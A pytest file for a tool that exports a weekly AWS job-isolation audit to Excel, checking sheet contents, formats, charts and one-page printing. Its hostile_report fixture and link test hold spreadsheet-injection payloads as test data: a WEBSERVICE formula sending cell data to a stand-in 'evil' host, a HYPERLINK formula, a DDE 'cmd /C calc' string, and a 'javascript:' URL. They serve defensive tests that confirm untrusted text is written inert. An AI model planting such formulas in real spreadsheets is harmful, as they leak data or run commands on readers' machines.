"""The weekly workbook, read back from the file: every number, inert untrusted text, a one-page summary."""

from __future__ import annotations

import dataclasses
import math
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from openpyxl.chart import BarChart, LineChart
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from isoaudit.job_kinds import console_url
from isoaudit.metrics.failures import FAILURE_CLASSES
from isoaudit.metrics.report import WeeklyReport
from isoaudit.publish.excel import write_workbook
from isoaudit.publish.excel_methodology import FAILURE_MEANINGS
from isoaudit.schema import WEEKLY_KPIS, conform
from tests.report_factory import (
    ACCOUNT_NAMES,
    FAILURES,
    GENERATED_AT,
    LEGACY,
    SANDBOX,
    WEEK,
    build_report,
    kpi_row,
)

SHEETS = [
    "Summary",
    "Teams",
    "Accounts",
    "Violations",
    "Open exposures",
    "Failure causes",
    "Images",
    "Coverage",
    "Methodology",
]
DATA_SHEETS = ["Teams", "Accounts", "Violations", "Open exposures", "Failure causes", "Images", "Coverage"]
# Summary label -> org column, as a reader sees them.
SUMMARY_INDICATORS = {
    "Jobs created (training + processing)": "jobs",
    "Isolation rate, all jobs": "isolation_rate",
    "Isolation rate, production jobs": "production_isolation_rate",
    "Violations (of those, not isolated)": "violations",
    "new (opened an exposure)": "new_violations",
    "repeat (exposure already open)": "repeat_violations",
    "MTTR, mean time to remediate (hours)": "mttr_hours",
    "median (hours)": "median_ttr_hours",
    "90th percentile (hours)": "p90_ttr_hours",
    "episodes closed": "episodes_closed",
    "Open exposure episodes": "episodes_open",
    "of which dormant": "episodes_dormant",
    "Dependency failures": "dependency_failures",
    "Preventive coverage (SCP)": "preventive_coverage",
    "Audit coverage": "audit_coverage",
    "stale accounts (last known state)": "stale_accounts",
}
RATES = {"isolation_rate", "production_isolation_rate", "preventive_coverage", "audit_coverage"}
# Teams and Accounts header -> WEEKLY_KPIS column.
SCOPE_MEASURES = {
    "Jobs": "jobs",
    "Isolation rate": "isolation_rate",
    "Production jobs": "production_jobs",
    "Production isolation rate": "production_isolation_rate",
    "Violations": "violations",
    "New violations": "new_violations",
    "Repeat violations": "repeat_violations",
    "Isolated + VPC": "tier_isolated_vpc",
    "Isolated": "tier_isolated",
    "VPC only (not compliant)": "tier_vpc_only",
    "Open (not compliant)": "tier_open",
    "MTTR mean (hours)": "mttr_hours",
    "TTR median (hours)": "median_ttr_hours",
    "TTR p90 (hours)": "p90_ttr_hours",
    "Episodes closed": "episodes_closed",
    "Open episodes": "episodes_open",
    "Dormant episodes": "episodes_dormant",
    "Dependency failures": "dependency_failures",
}
NO_VALUE = "—"
HOSTILE_JOB_NAME = '=HYPERLINK("http://evil","x")'


@pytest.fixture(scope="module")
def report() -> WeeklyReport:
    return build_report()


@pytest.fixture(scope="module")
def workbook_path(report: WeeklyReport, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_workbook(report, path=tmp_path_factory.mktemp("reports") / f"isoaudit-{WEEK}.xlsx")


@pytest.fixture(scope="module")
def workbook(workbook_path: Path) -> Workbook:
    return load_workbook(workbook_path)


def read_table(sheet: Worksheet, *, header_row: int = 1, first_column: int = 1) -> list[dict[str, object]]:
    """The rows under a header row, as header -> value, up to the first empty row or column."""
    headers = []
    while (header := sheet.cell(row=header_row, column=first_column + len(headers)).value) is not None:
        headers.append(header)
    rows = []
    row = header_row + 1
    while sheet.cell(row=row, column=first_column).value is not None:
        rows.append({h: sheet.cell(row=row, column=first_column + i).value for i, h in enumerate(headers)})
        row += 1
    return rows


def row_of(sheet: Worksheet, label: str, *, column: int = 1) -> int:
    rows = [cell.row for cell in sheet[sheet.cell(row=1, column=column).column_letter] if cell.value == label]
    assert len(rows) == 1, f"{label!r} found on rows {rows}"
    return rows[0]


def shown(value: object, *, rate: bool = False) -> object:
    """A report value as the workbook holds it: rates as fractions, missing values as empty cells."""
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return None
    return pytest.approx(float(value) / 100) if rate else pytest.approx(value)


def naive(timestamp: pd.Timestamp) -> object:
    return timestamp.tz_convert("UTC").tz_localize(None).to_pydatetime()


def all_cells(workbook: Workbook) -> Iterator[tuple[str, object]]:
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


def test_sheets_come_in_order_and_the_file_is_named_by_the_caller(
    workbook: Workbook, workbook_path: Path
) -> None:
    assert workbook.sheetnames == SHEETS
    assert workbook_path.name == f"isoaudit-{WEEK}.xlsx"


def test_summary_title_names_the_week_and_its_period(workbook: Workbook) -> None:
    summary = workbook["Summary"]
    assert WEEK in summary["A1"].value
    assert "Mon 16 Nov 2026 to Sun 22 Nov 2026 (UTC)" in summary["A2"].value
    assert "generated 2026-11-23 06:30 UTC" in summary["A2"].value


def test_summary_shows_each_org_kpi_beside_last_week_and_the_change(
    workbook: Workbook, report: WeeklyReport
) -> None:
    summary = workbook["Summary"]
    assert report.previous_org is not None
    for label, source in SUMMARY_INDICATORS.items():
        row = row_of(summary, label)
        current, previous = report.org[source], report.previous_org[source]
        is_rate = source in RATES
        this_week, last_week, change = (summary.cell(row=row, column=c).value for c in (2, 3, 4))
        assert this_week == shown(current, rate=is_rate), label
        assert last_week == shown(previous, rate=is_rate), label
        # Rates change in percentage points: the difference of two 0-100 numbers.
        assert change == pytest.approx(float(current) - float(previous)), label
        if is_rate:
            assert summary.cell(row=row, column=2).number_format == "0.0%"
            assert summary.cell(row=row, column=4).number_format.startswith('+0.0" pp"')


def test_summary_shows_a_dash_when_there_is_no_last_week(report: WeeklyReport, tmp_path: Path) -> None:
    first_week = dataclasses.replace(report, previous_org=None)
    summary = load_workbook(write_workbook(first_week, path=tmp_path / "first.xlsx"))["Summary"]
    for label in SUMMARY_INDICATORS:
        row = row_of(summary, label)
        assert summary.cell(row=row, column=3).value == NO_VALUE
        assert summary.cell(row=row, column=4).value == NO_VALUE


def test_summary_trend_chart_draws_both_rates_as_straight_lines(
    workbook: Workbook, report: WeeklyReport
) -> None:
    summary = workbook["Summary"]
    (chart,) = summary._charts
    assert isinstance(chart, LineChart)
    assert len(chart.series) == 2
    assert all(series.smooth is False for series in chart.series)
    header = row_of(summary, "Week", column=13)
    trend = read_table(summary, header_row=header, first_column=13)
    assert [row["Week"] for row in trend] == list(report.trend["week"])
    assert [row["Isolation rate"] for row in trend] == [
        shown(rate, rate=True) for rate in report.trend["isolation_rate"]
    ]
    assert [row["Production"] for row in trend] == [
        shown(rate, rate=True) for rate in report.trend["production_isolation_rate"]
    ]


def test_summary_lists_the_teams_with_the_most_open_exposure(
    workbook: Workbook, report: WeeklyReport
) -> None:
    summary = workbook["Summary"]
    rows = read_table(summary, header_row=row_of(summary, "Teams with the most open exposure") + 1)
    exposed = report.teams[report.teams["episodes_open"] > 0]
    assert 0 < len(rows) <= 5
    assert {row["Team"] for row in rows} == set(exposed["scope_value"])
    assert [row["Open episodes"] for row in rows] == sorted(exposed["episodes_open"], reverse=True)
    assert rows[0]["Team"] == "fraud-detection"
    assert rows[0]["of which dormant"] == 1


def test_summary_shows_audit_coverage_counts_and_names_the_gaps(
    workbook: Workbook, report: WeeklyReport
) -> None:
    summary = workbook["Summary"]
    section = row_of(summary, "Audit coverage: what could not be audited")
    assert summary.cell(row=section + 1, column=1).value.startswith("4 audited · 2 failed · 1 skipped")
    gaps = read_table(summary, header_row=section + 2)
    # legacy-data failed in both of its regions for one reason: one row, as the CLI prints it.
    assert [(row["Account name"], row["Account id"], row["Regions"]) for row in gaps] == [
        ("legacy-data", LEGACY, "all 2 regions")
    ]
    assert gaps[0]["Reason"] == "AccessDenied: not authorized to perform sts:AssumeRole"


def test_summary_prints_landscape_on_one_page(workbook: Workbook) -> None:
    setup = workbook["Summary"].page_setup
    assert setup.orientation == "landscape"
    assert (setup.fitToWidth, setup.fitToHeight) == (1, 1)
    assert workbook["Summary"].sheet_properties.pageSetUpPr.fitToPage


@pytest.mark.parametrize("sheet_name", DATA_SHEETS)
def test_data_sheets_have_a_bold_frozen_filtered_header_and_print_landscape(
    workbook: Workbook, sheet_name: str
) -> None:
    sheet = workbook[sheet_name]
    assert sheet["A1"].font.b
    assert sheet.freeze_panes is not None and sheet.freeze_panes.endswith("2")
    assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.fitToWidth == 1
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$1:$1"
    assert all(sheet.column_dimensions[letter].width for letter in "ABCD")


@pytest.mark.parametrize(("sheet_name", "key"), [("Teams", "Team"), ("Accounts", "Account id")])
def test_teams_and_accounts_sheets_hold_the_report_rows(
    workbook: Workbook, report: WeeklyReport, sheet_name: str, key: str
) -> None:
    frame = report.teams if sheet_name == "Teams" else report.accounts
    rows = {row[key]: row for row in read_table(workbook[sheet_name])}
    assert set(rows) == set(frame["scope_value"])
    for expected in frame.to_dict("records"):
        row = rows[expected["scope_value"]]
        for header, source in SCOPE_MEASURES.items():
            assert row[header] == shown(expected[source], rate=source in RATES), (
                header,
                expected["scope_value"],
            )
    if sheet_name == "Accounts":
        assert {row["Account name"] for row in rows.values()} == set(report.accounts["account_name"])
    # Worst first: the team with the most violations heads the sheet.
    assert workbook[sheet_name]["A2"].value == frame.sort_values("violations").iloc[-1]["scope_value"]


def test_scope_sheets_format_rates_hours_and_counts(workbook: Workbook) -> None:
    teams = workbook["Teams"]
    headers = {cell.value: cell.column_letter for cell in teams[1]}
    assert teams[f"{headers['Isolation rate']}2"].number_format == "0.0%"
    assert teams[f"{headers['MTTR mean (hours)']}2"].number_format == "#,##0.0"
    assert teams[f"{headers['Jobs']}2"].number_format == "#,##0"


def test_scope_sheets_color_what_is_bad(workbook: Workbook) -> None:
    teams = workbook["Teams"]
    headers = {cell.value: cell.column_letter for cell in teams[1]}
    formatted = {
        str(ranges.sqref).split(":")[0][:-1]: [rule.formula[0] for rule in rules]
        for ranges, rules in teams.conditional_formatting._cf_rules.items()
    }
    assert any("<0.8" in formula for formula in formatted[headers["Isolation rate"]])
    assert formatted[headers["VPC only (not compliant)"]] == [f"{headers['VPC only (not compliant)']}2>0"]
    assert formatted[headers["Open episodes"]] == [f"{headers['Open episodes']}2>0"]


def test_violations_sheet_lists_every_violation_with_its_console_link(
    workbook: Workbook, report: WeeklyReport
) -> None:
    sheet = workbook["Violations"]
    rows = read_table(sheet)
    assert len(rows) == len(report.violations)
    by_name = {row["Job name"]: row for row in rows}
    for expected in report.violations.to_dict("records"):
        row = by_name[expected["job_name"]]
        assert row["Team"] == expected["team"]
        assert row["Account id"] == expected["account_id"]
        assert row["Account name"] == ACCOUNT_NAMES[expected["account_id"]]
        assert row["Region"] == expected["region"]
        assert row["Posture tier"] == expected["posture"]
        assert row["Family"] == expected["family"]
        assert row["Violation"] == expected["violation"]
        assert row["Created (UTC)"] == naive(expected["creation_time"])
        assert row["Status"] == expected["status"]
        assert row["Tags"] == expected["tags_json"]
        assert row["Console"] == "open in console"
    console_column = next(cell.column for cell in sheet[1] if cell.value == "Console")
    links = [cell.hyperlink.target for cell in sheet.iter_rows(min_row=2) for cell in cell if cell.hyperlink]
    assert sorted(links) == sorted(report.violations["console_url"])
    assert all(
        sheet.cell(row=row, column=console_column).hyperlink is not None for row in range(2, len(rows) + 2)
    )
    created = next(cell.column_letter for cell in sheet[1] if cell.value == "Created (UTC)")
    assert sheet[f"{created}2"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet[f"{created}2"].value.tzinfo is None


def test_images_sheet_ranks_the_image_to_rebuild_first_on_top(
    workbook: Workbook, report: WeeklyReport
) -> None:
    sheet = workbook["Images"]
    rows = read_table(sheet)
    assert [row["Rank"] for row in rows] == [1, 2, 3]
    first = rows[0]
    assert (first["Repository"], first["Tag"], first["Registry"]) == ("fraud/gnn", "1.4", "own ECR")
    assert first["Missing package, isolated"] == 3
    assert first["Isolated share"] == pytest.approx(1.0)
    assert rows[1]["Registry"] == "AWS Deep Learning Containers"
    assert rows[2]["Registry"] == "AWS SageMaker images"
    assert [row["Image URI"] for row in rows] == list(report.images["image_uri"])
    assert rows[0]["Last used (UTC)"] == naive(report.images["last_used"].iloc[0])
    # Isolated runs missing a package are the cells to act on.
    rules = [rule for ranges in sheet.conditional_formatting for rule in ranges.rules]
    assert any("L2>0" in formula for rule in rules for formula in rule.formula)


def test_open_exposures_sheet_lists_open_and_dormant_episodes_oldest_first(
    workbook: Workbook, report: WeeklyReport
) -> None:
    rows = read_table(workbook["Open exposures"])
    assert len(rows) == len(report.open_exposures)
    ages = [row["Age (days)"] for row in rows]
    assert ages == sorted(ages, reverse=True)
    oldest = report.open_exposures.sort_values("opened_at").iloc[0]
    assert rows[0]["Family"] == oldest["family"]
    assert rows[0]["State"] == "dormant"
    assert rows[0]["Opened (UTC)"] == naive(oldest["opened_at"])
    assert rows[0]["Age (days)"] == pytest.approx(
        (GENERATED_AT - oldest["opened_at"]).total_seconds() / 86400
    )
    assert rows[0]["Non-compliant runs"] == oldest["non_compliant_runs"]
    assert rows[0]["Account name"] == ACCOUNT_NAMES[oldest["account_id"]]
    assert {row["State"] for row in rows} == {"open", "dormant"}


def test_failure_causes_split_each_team_and_class_by_isolation(workbook: Workbook) -> None:
    sheet = workbook["Failure causes"]
    expected: dict[tuple[str, str], list[int]] = {}
    for team, failure_class, isolated, jobs in FAILURES:
        counts = expected.setdefault((team, failure_class), [0, 0])
        counts[0 if isolated else 1] += jobs
    rows = read_table(sheet)
    assert {
        (row["Team"], row["Failure class"]): [row["Isolated jobs"], row["Not isolated jobs"]] for row in rows
    } == expected
    assert all(row["Total"] == row["Isolated jobs"] + row["Not isolated jobs"] for row in rows)

    class_column = next(cell.column for cell in sheet[1] if cell.value == "What it usually means") - 4
    by_class = {row["Failure class"]: row for row in read_table(sheet, first_column=class_column)}
    assert list(by_class) == ["missing_dependency", "network_blocked", "other"]
    assert (by_class["missing_dependency"]["Isolated"], by_class["missing_dependency"]["Not isolated"]) == (
        3,
        2,
    )
    (chart,) = sheet._charts
    assert isinstance(chart, BarChart)
    assert len(chart.series) == 2


def test_coverage_sheet_lists_gaps_first_and_preventive_coverage(
    workbook: Workbook, report: WeeklyReport
) -> None:
    sheet = workbook["Coverage"]
    rows = read_table(sheet)
    # The account that failed in both regions for one reason is one row.
    assert len(rows) == len(report.coverage) - 1
    assert [row["Status"] for row in rows] == ["failed", "skipped"] + ["audited"] * 4
    assert (rows[0]["Account id"], rows[0]["Region"]) == (LEGACY, "all 2 regions")
    assert rows[0]["Reason"] == "AccessDenied: not authorized to perform sts:AssumeRole"
    assert rows[0]["Audited at (UTC)"] == naive(report.coverage["audited_at"].iloc[0])

    # The preventive table starts two columns left of its "Covered by SCP" header.
    covered_column = next(cell.column for cell in sheet[1] if cell.value == "Covered by SCP")
    preventive = read_table(sheet, first_column=covered_column - 2)
    assert {row["Account id"]: row["Covered by SCP"] for row in preventive} == {
        account: "yes" if covered else "no"
        for account, covered in zip(
            report.preventive["account_id"], report.preventive["covered"], strict=True
        )
    }
    assert [row["Covered by SCP"] for row in preventive][:2] == ["no", "no"]


def test_gaps_are_grouped_by_account_and_reason_only_when_they_share_one(
    report: WeeklyReport, tmp_path: Path
) -> None:
    coverage = report.coverage.copy()
    legacy_east = (coverage["account_id"] == LEGACY) & (coverage["region"] == "us-east-1")
    coverage.loc[legacy_east, "reason"] = "ListTrainingJobs: ThrottlingException: Rate exceeded"
    sandbox = coverage[coverage["account_id"] == SANDBOX].assign(
        region="eu-west-1", status="failed", reason="Search: AccessDeniedException: no"
    )
    coverage = pd.concat([coverage, sandbox], ignore_index=True)
    book = load_workbook(
        write_workbook(dataclasses.replace(report, coverage=coverage), path=tmp_path / "gaps.xlsx")
    )
    failed = [row for row in read_table(book["Coverage"]) if row["Status"] == "failed"]
    assert [(row["Account id"], row["Region"]) for row in failed] == [
        (SANDBOX, "eu-west-1"),  # one region failed out of two audited or failed
        (LEGACY, "eu-west-1"),  # two reasons: one row each
        (LEGACY, "us-east-1"),
    ]


def test_methodology_explains_every_number_and_every_column(workbook: Workbook) -> None:
    sheet = workbook["Methodology"]
    text = " ".join(str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value)
    for phrase in (
        "a VPC is not isolation",
        "MTTR alone flatters",
        "90th percentile",
        "dormant",
        "missing_dependency",
        "BoolIfExists",
        "stale",
        "UTC",
    ):
        assert phrase in text, phrase
    for description in (field.metadata[b"description"].decode() for field in WEEKLY_KPIS):
        if description.startswith(("ISO week", "org, team", "The team, account", "Of which", "Accounts not")):
            continue  # columns the sheets do not show
        assert description in text, description


def test_every_failure_class_has_a_meaning() -> None:
    assert list(FAILURE_MEANINGS) == list(FAILURE_CLASSES)


def test_no_cell_anywhere_is_a_formula(workbook: Workbook) -> None:
    assert [
        f"{title}!{cell.coordinate}" for title, cell in all_cells(workbook) if cell.data_type == "f"
    ] == []


def hostile_report(report: WeeklyReport) -> WeeklyReport:
    """Every text that comes from AWS replaced by something a spreadsheet would like to execute."""
    violations = report.violations.copy()
    violations.loc[0, "job_name"] = HOSTILE_JOB_NAME
    violations.loc[0, "console_url"] = console_url(
        region="us-east-1", job_kind="training", job_name=HOSTILE_JOB_NAME
    )
    violations.loc[1, "job_name"] = "bell\x07in-the-name"
    violations["team"] = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "#N/A", "=team"]
    violations["family"] = "-family"
    violations["tags_json"] = '=WEBSERVICE("http://evil/?"&A1)'
    violations["account_name"] = "@account"
    teams = report.teams.assign(scope_value=["=1+1", "+team", "@team"])
    exposures = report.open_exposures.assign(family="=family", first_job_name="+job")
    coverage = report.coverage.assign(reason="=reason", account_name="-name")
    failures = report.failure_causes.assign(team="@failing")
    preventive = report.preventive.assign(policies="=policy")
    return dataclasses.replace(
        report,
        violations=violations,
        teams=teams,
        open_exposures=exposures,
        coverage=coverage,
        failure_causes=failures,
        preventive=preventive,
    )


def test_untrusted_text_is_written_as_plain_strings_never_formulas_or_links(
    report: WeeklyReport, tmp_path: Path
) -> None:
    hostile = hostile_report(report)
    workbook = load_workbook(write_workbook(hostile, path=tmp_path / "hostile.xlsx"))
    assert [
        f"{title}!{cell.coordinate}" for title, cell in all_cells(workbook) if cell.data_type == "f"
    ] == []

    texts = {
        HOSTILE_JOB_NAME,
        *hostile.violations["team"],
        "-family",
        '=WEBSERVICE("http://evil/?"&A1)',
        "@account",
        "+team",
        "=family",
        "+job",
        "=reason",
        "-name",
        "@failing",
        "=policy",
    }
    found: dict[str, list[object]] = {}
    for _, cell in all_cells(workbook):
        if cell.value in texts:
            found.setdefault(cell.value, []).append(cell)
    assert set(found) == texts, texts - set(found)
    for value, cells in found.items():
        for cell in cells:
            assert (cell.data_type, cell.value, cell.hyperlink) == ("s", value, None), cell.coordinate

    violations = workbook["Violations"]
    rows = read_table(violations)
    assert "bellin-the-name" in {row["Job name"] for row in rows}  # control characters dropped, not fatal
    links = [
        cell.hyperlink.target for row in violations.iter_rows(min_row=2) for cell in row if cell.hyperlink
    ]
    assert sorted(links) == sorted(hostile.violations["console_url"])
    # The hostile name only ever reaches a link quoted, inside isoaudit's own console URL.
    assert any(link.endswith("#/jobs/%3DHYPERLINK%28%22http%3A%2F%2Fevil%22%2C%22x%22%29") for link in links)


def test_a_link_that_is_not_an_aws_console_url_is_not_written(report: WeeklyReport, tmp_path: Path) -> None:
    violations = report.violations.copy()
    violations.loc[0, "console_url"] = "javascript:alert(1)"
    violations.loc[1, "console_url"] = "http://us-east-1.console.aws.amazon.com/sagemaker"
    violations.loc[2, "console_url"] = "https://console.aws.amazon.com.evil.example/jobs/x"
    tampered = dataclasses.replace(report, violations=violations)
    sheet = load_workbook(write_workbook(tampered, path=tmp_path / "tampered.xlsx"))["Violations"]
    links = [cell.hyperlink.target for row in sheet.iter_rows(min_row=2) for cell in row if cell.hyperlink]
    assert sorted(links) == sorted(violations["console_url"].iloc[3:])


def test_an_empty_week_still_writes_every_sheet(report: WeeklyReport, tmp_path: Path) -> None:
    quiet = dataclasses.replace(
        report,
        previous_org=None,
        trend=report.trend.iloc[0:0],
        violations=report.violations.iloc[0:0],
        open_exposures=report.open_exposures.iloc[0:0],
        failure_causes=report.failure_causes.iloc[0:0],
        teams=conform(
            pd.DataFrame([kpi_row(scope="team", scope_value="solo", **_no_activity())]), WEEKLY_KPIS
        ),
    )
    workbook = load_workbook(write_workbook(quiet, path=tmp_path / "quiet.xlsx"))
    assert workbook.sheetnames == SHEETS
    assert workbook["Violations"]["A2"].value == "No violation this week."
    assert workbook["Open exposures"]["A2"].value == "No open exposure."
    assert workbook["Failure causes"]["A2"].value == "No failed job this week."
    assert workbook["Summary"]._charts == []
    assert workbook["Teams"]["C2"].value is None  # no job: no rate, rather than 0 %


def _no_activity() -> dict[str, object]:
    return dict(
        jobs=0,
        compliant=0,
        production_jobs=0,
        production_compliant=0,
        new_violations=0,
        repeat_violations=0,
        tiers=(0, 0, 0, 0),
        ttr_hours=None,
        episodes_closed=0,
        episodes_open=0,
        episodes_dormant=0,
        dependency_failures=0,
    )


def crowded_report(report: WeeklyReport) -> WeeklyReport:
    """Many teams, many gaps and a year of trend: the summary must still fit its page."""
    teams = conform(
        pd.DataFrame(
            [
                kpi_row(scope="team", scope_value=f"team-{n:02d}", **{**_no_activity(), "episodes_open": n})
                for n in range(40)
            ]
        ),
        WEEKLY_KPIS,
    )
    # 30 more accounts that could not be read (gaps are shown one per account and reason).
    gaps = pd.concat([report.coverage.iloc[[-1]]] * 30, ignore_index=True).assign(
        account_id=[f"5555555555{n:02d}" for n in range(30)],
        account_name=[f"account-{n:02d}" for n in range(30)],
        reason="AccessDenied " * 30,
    )
    weeks = pd.concat([report.trend] * 9, ignore_index=True).head(52)
    return dataclasses.replace(
        report,
        teams=teams,
        coverage=pd.concat([report.coverage, gaps], ignore_index=True),
        trend=weeks.assign(week=[f"2025-W{n + 1:02d}" for n in range(52)]),
    )


def test_a_crowded_summary_keeps_to_its_page_and_points_to_the_detail(
    report: WeeklyReport, tmp_path: Path
) -> None:
    summary = load_workbook(write_workbook(crowded_report(report), path=tmp_path / "crowded.xlsx"))["Summary"]
    exposed = read_table(summary, header_row=row_of(summary, "Teams with the most open exposure") + 1)
    assert [row["Team"] for row in exposed] == ["team-39", "team-38", "team-37", "team-36", "team-35"]
    section = row_of(summary, "Audit coverage: what could not be audited")
    gaps = read_table(summary, header_row=section + 2)
    assert len(gaps) == 11  # ten gaps, then the pointer to the rest
    assert gaps[-1]["Account name"] == "… and 21 more gaps: see the Coverage sheet."
    assert all(len(row["Reason"]) <= 80 for row in gaps[:-1])
    assert gaps[-2]["Reason"].endswith("…")


def summary_pages(workbook_path: Path, *, work_dir: Path) -> int:
    """Pages LibreOffice prints for the Summary sheet alone."""
    summary_only = load_workbook(workbook_path)
    for name in SHEETS[1:]:
        del summary_only[name]
    copy = work_dir / "summary.xlsx"
    summary_only.save(copy)
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{work_dir / 'profile'}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(work_dir),
            str(copy),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    pdf = work_dir / "summary.pdf"
    if shutil.which("pdfinfo"):
        info = subprocess.run(["pdfinfo", str(pdf)], check=True, capture_output=True, text=True).stdout
        return int(re.search(r"^Pages:\s+(\d+)", info, re.MULTILINE).group(1))
    return len(re.findall(rb"/Type\s*/Page[^s]", pdf.read_bytes()))


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
@pytest.mark.parametrize("crowded", [False, True], ids=["factory", "crowded"])
def test_summary_prints_on_one_page_in_libreoffice(
    report: WeeklyReport, tmp_path: Path, crowded: bool
) -> None:
    week = crowded_report(report) if crowded else report
    path = write_workbook(week, path=tmp_path / f"isoaudit-{WEEK}.xlsx")
    assert summary_pages(path, work_dir=tmp_path) == 1
